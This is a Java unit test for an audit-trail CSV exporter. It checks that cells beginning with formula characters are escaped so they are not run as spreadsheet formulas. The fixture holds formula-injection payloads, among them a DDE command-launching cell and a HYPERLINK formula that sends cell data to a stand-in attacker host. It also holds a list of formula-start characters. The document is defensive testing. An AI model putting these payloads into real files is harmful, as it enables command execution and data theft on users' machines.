package cn.communityworkers.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import cn.communityworkers.support.CsvRows;

/** The trail's CSV: every column a person's text can begin reaches the file as text, never as a formula. */
class TrailCsvTest {

    static final ObjectMapper JSON = new ObjectMapper();
    static final String FORMULA_STARTS = "=+-@\t\r\n\0＝＋－＠";

    @Test
    void noCellOfATrailRunsAsAFormula() throws Exception {
        JsonNode trail = JSON.readTree("""
                {"processInstanceId": "p1", "processDefinitionName": "=1+1", "businessKey": "=2+2", "state": "ACTIVE",
                 "steps": [{"time": "2030-01-01T08:00:00.000+08:00", "kind": "TASK", "activityId": "-Task",
                   "name": "@SUM(A1)", "actor": "+actor", "candidateGroups": ["=group"], "assignee": "-assignee",
                   "values": {"=cmd|' /C calc'!A0": "x", "b": "=1+1"}, "prepared": {"@p": 1},
                   "decisions": [{"decisionName": "=decision", "inputs": [{"name": "=in", "value": "=v"}],
                     "matchedRules": ["=rule"], "outputs": [{"name": "=out", "value": -1}]}],
                   "overrides": [{"reason": "=reason", "values": {"rating": "QUALIFIED"}}],
                   "message": "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"查看\\")"},
                  {"time": "2030-01-01T08:00:01.000+08:00", "kind": "=KIND", "message": "-12.5"}]}
                """);

        String csv = new String(TrailCsv.write(trail), StandardCharsets.UTF_8);

        assertThat(csv).startsWith("\uFEFF");
        List<List<String>> rows = CsvRows.parse(csv.substring(1));
        assertThat(rows).hasSize(4);
        assertThat(rows.get(0)).containsExactly("流程实例 p1", "'=1+1", "业务编号 =2+2", "状态 ACTIVE");
        assertThat(rows.get(2)).containsExactly("2030-01-01T08:00:00.000+08:00", "人工任务", "'-Task", "'@SUM(A1)",
                "'+actor", "'=group", "'-assignee", "'=cmd|' /C calc'!A0=x; b==1+1", "'@p=1", "'=decision", "'=in==v",
                "'=rule", "'=out=-1", "{\"rating\":\"QUALIFIED\"} 理由:=reason",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")");
        assertThat(rows.get(3)).containsExactly("2030-01-01T08:00:01.000+08:00", "'=KIND", "", "", "", "", "", "", "", "",
                "", "", "", "", "-12.5");
        rows.stream().flatMap(List::stream).forEach(cell -> assertThat(cell.isEmpty()
                || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0 || cell.matches("-?\\d+(\\.\\d+)?")).as(cell).isTrue());
    }
}
